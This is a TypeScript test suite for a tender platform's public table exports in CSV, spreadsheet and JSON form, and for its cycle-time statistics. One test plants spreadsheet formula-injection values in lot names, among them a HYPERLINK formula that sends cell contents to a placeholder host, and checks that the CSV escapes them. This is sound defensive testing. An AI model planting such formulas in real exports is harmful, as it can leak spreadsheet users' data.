import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { parse } from 'csv-parse/sync';
import { Client } from 'pg';
import readExcel from 'read-excel-file/node';
import { createCheckedApi } from '../../support/answers/checked-api';
import { fillCorpus } from '../../../apps/cli/src/bench/notice-corpus';
import { ExchangeModule, PublicStatistics, writeTable } from '@kaibiao/exchange';
import type { Reader } from '@kaibiao/platform';
import { testPlatform, type TestPlatform } from '../../support/app';

const LOTS = 450;

describe('a public table as a file', () => {
  let platform: TestPlatform;
  let owner: Client;
  let api: NestFastifyApplication;

  const read = async (path: string) => {
    const { statusCode, headers, rawPayload } = await api.inject({ method: 'GET', url: `/api/v1/public/tables/${path}` });
    return { status: statusCode, headers, bytes: rawPayload, text: rawPayload.toString('utf8') };
  };
  const json = async (path: string) => JSON.parse((await read(`${path}&format=json`)).text) as Record<string, string | null>[];

  beforeAll(async () => {
    platform = await testPlatform({ imports: [ExchangeModule] });
    owner = new Client({ connectionString: platform.database.ownerUrl });
    await owner.connect();
    await fillCorpus(owner, LOTS);
    api = await createCheckedApi(platform.config);
    await api.init();
    await api.getHttpAdapter().getInstance().ready();
  }, 120_000);
  afterAll(async () => {
    await api.close();
    await owner.end();
    await platform.close();
  });

  it('has every row as CSV, as a spreadsheet and as JSON, newest first', async () => {
    const [csv, xlsx] = [await read('lots?format=csv'), await read('lots?format=xlsx')];
    expect([csv.headers['content-type'], csv.headers['content-disposition']]).toEqual([
      'text/csv; charset=utf-8',
      'attachment; filename="lots.csv"',
    ]);
    expect(csv.text.startsWith('\uFEFF标段编号,')).toBe(true);
    expect(csv.text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const rows = parse<Record<string, string>>(csv.text, { columns: true, bom: true });
    const [sheet] = await readExcel(xlsx.bytes as never);
    const [head, ...cells] = sheet!.data;
    const objects = await json('lots?');
    expect([rows.length, cells.length, objects.length]).toEqual([LOTS, LOTS, LOTS]);
    const codes = (await owner.query<{ code: string }>('select code from lot order by published_at desc, id desc')).rows.map(
      ({ code }) => code,
    );
    expect(rows.map((row) => row['标段编号'])).toEqual(codes);
    expect(cells.map(([code]) => code)).toEqual(codes);
    expect(objects.map(({ code }) => code)).toEqual(codes);
    const [price, published] = [head!.indexOf('最高投标限价（元）'), head!.indexOf('发布时间（北京时间）')];
    expect(cells[0]![price]).toBe(Number(objects[0]!['ceilingPrice']));
    expect(cells[0]![published]).toBe(rows[0]!['发布时间（北京时间）']);
    expect(rows[0]!['发布时间（北京时间）']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
  });

  it('has the rows that the page with the same filters shows', async () => {
    const filter = `word=${encodeURIComponent('医院')}&region=321302&stage=awarded`;
    const page = await api.inject({ method: 'GET', url: `/api/v1/public/lots?${filter}&limit=100` });
    const shown = page.json<{ lots: { code: string }[] }>().lots.map(({ code }) => code);
    expect(shown.length).toBeGreaterThan(0);
    expect((await json(`lots?${filter}`)).map(({ code }) => code)).toEqual(shown);
    expect((await read('lots?region=x')).status).toBe(422);
    expect((await read('lots?from=2026-02-30')).status).toBe(422);
    expect((await read('lots?format=pdf')).status).toBe(422);
  });

  it('has the openings that the page of openings shows', async () => {
    const page = await api.inject({ method: 'GET', url: '/api/v1/public/halls' });
    const shown = page.json<{ halls: { lotCode: string }[] }>().halls.map(({ lotCode }) => lotCode);
    expect(shown.length).toBeGreaterThan(0);
    expect((await json('halls?')).map(({ code }) => code)).toEqual(shown);
  });

  it('is whole where there is nothing', async () => {
    for (const table of ['lots?trade=land', 'notices?', 'results?trade=land'])
      expect([table, await json(table), (await read(`${table}&format=csv`)).text.split('\r\n').length]).toEqual([table, [], 2]);
    const [sheet] = await readExcel((await read('notices?format=xlsx')).bytes as never);
    expect(sheet!.data).toHaveLength(1);
  });

  it('gives no spreadsheet a formula to run (CWE-1236)', async () => {
    const formula = '=HYPERLINK("http://example.invalid?"&A1,"点我")';
    const names = [formula, '+1', '-1+2', '@SUM(1)'];
    for (const [at, name] of names.entries())
      await owner.query(`update lot set name = $1 where code = (select code from lot order by code offset $2 limit 1)`, [name, at]);
    const codes = (await owner.query<{ code: string }>('select code from lot order by code limit 4')).rows.map(({ code }) => code);
    const rows = parse<Record<string, string>>((await read('lots?format=csv')).text, { columns: true, bom: true });
    expect(codes.map((code) => rows.find((row) => row['标段编号'] === code)!['标段名称'])).toEqual(names.map((name) => `'${name}`));
    const [sheet] = await readExcel((await read('lots?format=xlsx')).bytes as never);
    expect(codes.map((code) => sheet!.data.find(([one]) => one === code)![1])).toEqual(names);
  });

  it('is read no faster than it is taken, so its length costs no memory', async () => {
    const columns = [{ key: 'name', label: '名称', kind: 'text' as const }];
    const ROWS = 300_000;
    for (const format of ['csv', 'xlsx', 'json'] as const) {
      let pulled = 0;
      async function* many() {
        for (; pulled < ROWS; pulled++) yield await Promise.resolve({ name: `门诊楼改扩建工程施工一标段 ${pulled}` });
      }
      const reader = writeTable(format, { name: 'many', columns, rows: many() })[Symbol.asyncIterator]();
      await reader.next();
      expect([format, pulled < ROWS / 4]).toEqual([format, true]);
      await reader.return?.();
    }
  });
});

describe('the cycle times of the statistics', () => {
  let platform: TestPlatform;
  let client: Client;
  /** The year before this one: wholly within the two years that are counted. */
  const DECIDED = `
    create temp table project as select * from (values (1, 'construction', '321302'), (2, 'procurement', '321302')) p (id, kind, region_code);
    create temp table lot as
      select n id, case when n > 10 then 2 else 1 end project_id, 100 ceiling_price_fen, make_timestamptz(last, 1, 10, 9, 0, 0, 'Asia/Shanghai') published_at
      from generate_series(1, 12) n, (select extract(year from kaibiao.now() at time zone 'Asia/Shanghai')::int - 1 as last) y;
    create temp table award as
      select id lot_id, 90 price_fen, case when id <= 10 then published_at + make_interval(days => id * 10) else
        make_timestamptz(extract(year from published_at)::int, 12, 31, 20, 0, 0, 'UTC') end decided_at
      from lot where id <> 12;
    create temp table opened_bid (lot_id int, outcome text, segment text)`;

  beforeAll(async () => {
    platform = await testPlatform({ imports: [ExchangeModule] });
    client = new Client({ connectionString: platform.database.ownerUrl });
    await client.connect();
    await client.query(DECIDED);
  }, 120_000);
  afterAll(async () => {
    await client.end();
    await platform.close();
  });

  it('are the median and the ninth of ten of the decided lots of a trade, by the year in Beijing', async () => {
    // Tables of this connection alone stand before those of the platform.
    const reader = { rows: async (sql: string) => (await client.query<object>(sql)).rows } as unknown as Reader;
    const { cycles } = await new PublicStatistics(reader).read();
    const year = Number(cycles[0]!.year);
    const days = Number(((Date.UTC(year, 11, 31, 20) - Date.UTC(year, 0, 10, 1)) / 86_400_000).toFixed(1));
    expect(cycles).toEqual([
      { trade: 'construction', year: String(year), awarded: 10, medianDays: 55, ninetiethDays: 91 },
      { trade: 'procurement', year: String(year + 1), awarded: 1, medianDays: days, ninetiethDays: days },
    ]);
  });
});
